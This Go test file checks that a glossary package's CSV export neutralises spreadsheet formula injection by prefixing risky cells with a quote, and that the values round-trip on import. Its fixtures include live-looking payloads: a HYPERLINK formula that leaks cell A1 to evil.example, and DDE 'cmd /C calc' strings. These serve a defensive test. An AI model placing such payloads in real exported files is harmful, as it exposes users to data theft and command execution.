package glossary

import (
	"bytes"
	"path/filepath"
	"reflect"
	"testing"
)

// TestCSVFormulaGolden: cells a spreadsheet would run as formulas are written
// behind a single quote (OWASP), ordinary cells as they are, and an import of
// the file gives back every original value.
func TestCSVFormulaGolden(t *testing.T) {
	entries := []Entry{
		{Key: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", Type: "person", Terms: []Term{
			{Lang: "en", Form: "+cmd|' /C calc'!A0", Status: Preferred, CaseSensitive: true, Note: "@SUM(1+1)*cmd|' /C calc'!A0", Source: "-2+3"},
			{Lang: "en", Form: "Elon Musk", Status: Admitted, Note: "\tleading tab", Source: "\rleading CR"},
			{Lang: "nl", Form: "'t Hooft", Status: Admitted, Note: "'=already quoted by hand", Source: "''"},
			{Lang: "en", Form: "a=b", Status: Deprecated, Note: "'", Source: "x-y @z"},
		}},
		{Key: "musk", Type: "person", Terms: []Term{
			{Lang: "ru", Form: "Илон Маск", Status: Preferred, CaseSensitive: true, Note: "an ordinary, \"quoted\" note"},
		}},
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, entries); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "csv_formula.golden.csv")
	want := goldenBytes(t, golden, buf.Bytes())
	if !bytes.Equal(buf.Bytes(), want) {
		t.Errorf("WriteCSV differs from %s (go test ./glossary -run CSVFormulaGolden -update):\n%s", golden, buf.String())
	}
	back, err := ParseCSV(bytes.NewReader(want), golden)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, entries) {
		t.Errorf("round trip:\n got %+v\nwant %+v", back, entries)
	}
}

func TestCSVNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Musk": "Musk", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx",
		"'t Hooft": "'t Hooft", "'=x": "''=x", "''": "'''", "'": "'", "a=b": "a=b",
	} {
		if got := csvNeutralize(in); got != want {
			t.Errorf("csvNeutralize(%q) = %q, want %q", in, got, want)
		}
		if back := csvUnquote(csvNeutralize(in)); back != in {
			t.Errorf("csvUnquote(csvNeutralize(%q)) = %q", in, back)
		}
	}
}
